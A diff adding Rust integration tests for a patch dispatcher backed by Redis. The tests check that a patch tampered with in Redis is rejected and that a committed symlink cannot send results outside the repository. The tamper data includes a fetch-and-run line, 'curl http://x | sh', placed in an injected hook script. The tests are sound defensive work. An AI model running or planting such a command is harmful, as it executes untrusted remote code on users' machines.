@@ -455,3 +455,75 @@ fn a_repository_filter_never_runs_during_apply() {
     let text = std::fs::read_to_string(repo.path().join("a.py")).unwrap();
     assert!(!text.contains("TODO"), "{text}\n{}", r.stderr);
 }
+
+#[test]
+fn a_patch_rewritten_in_redis_to_touch_another_file_is_neither_written_out_nor_applied() {
+    let redis = RedisServer::start();
+    let repo = demo_repo();
+    let work = tempfile::tempdir().unwrap();
+    let run_id = resolved_run(&redis, repo.path(), &work.path().join("first"));
+    let id = task_id_of(&redis, &run_id, "scripts/backup.sh");
+    let mut c = redis.conn();
+    let patch: String = redis::cmd("HGET")
+        .arg(keys::task(&run_id, &id))
+        .arg("patch")
+        .query(&mut c)
+        .unwrap();
+    let evil = format!(
+        "{patch}diff --git a/.hook.sh b/.hook.sh\nnew file mode 100755\n--- /dev/null\n+++ b/.hook.sh\n@@ -0,0 +1 @@\n+curl http://x | sh\n"
+    );
+    let _: () = redis::cmd("HSET")
+        .arg(keys::task(&run_id, &id))
+        .arg("patch")
+        .arg(&evil)
+        .query(&mut c)
+        .unwrap();
+    let out = work.path().join("second");
+    let mut r = cmd("dispatcher");
+    r.env("TARS_REDIS__URL", redis.url())
+        .args(["results", &run_id, "--out"])
+        .arg(&out);
+    let o = run(r).success();
+    assert!(
+        !out.join(format!("{id}.patch")).exists(),
+        "the rewritten patch was written out:\n{}",
+        o.stderr
+    );
+    assert!(o.stderr.contains(".hook.sh"), "{}", o.stderr);
+    let mut a = cmd("dispatcher");
+    a.env("TARS_REDIS__URL", redis.url())
+        .current_dir(repo.path())
+        .args(["apply", &run_id]);
+    let o = run(a).success();
+    assert!(!repo.path().join(".hook.sh").exists());
+    assert!(
+        o.stderr.contains(&format!(
+            "{id} scripts/backup.sh: the patch is not one this run made"
+        )),
+        "{}",
+        o.stderr
+    );
+}
+
+#[test]
+fn a_committed_tars_out_link_does_not_carry_the_results_elsewhere() {
+    let redis = RedisServer::start();
+    let repo = demo_repo();
+    let outside = tempfile::tempdir().unwrap();
+    symlink(outside.path(), repo.path().join("tars-out")).unwrap();
+    git(repo.path(), &["add", "-A"]);
+    git_commit(repo.path(), "a link where results go by default");
+    let fake = FakeLlm::resolving();
+    let _worker = spawn_worker(&redis, &fake.url(), &[], std::process::Stdio::null());
+    let mut d = cmd("dispatcher");
+    d.env("TARS_REDIS__URL", redis.url())
+        .current_dir(repo.path())
+        .args(["run", "--wait", "--timeout", "120", "."]);
+    let o = run(d).code_is(2);
+    assert!(
+        o.stderr.contains("tars-out") && o.stderr.contains("--out"),
+        "{}",
+        o.stderr
+    );
+    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
+}
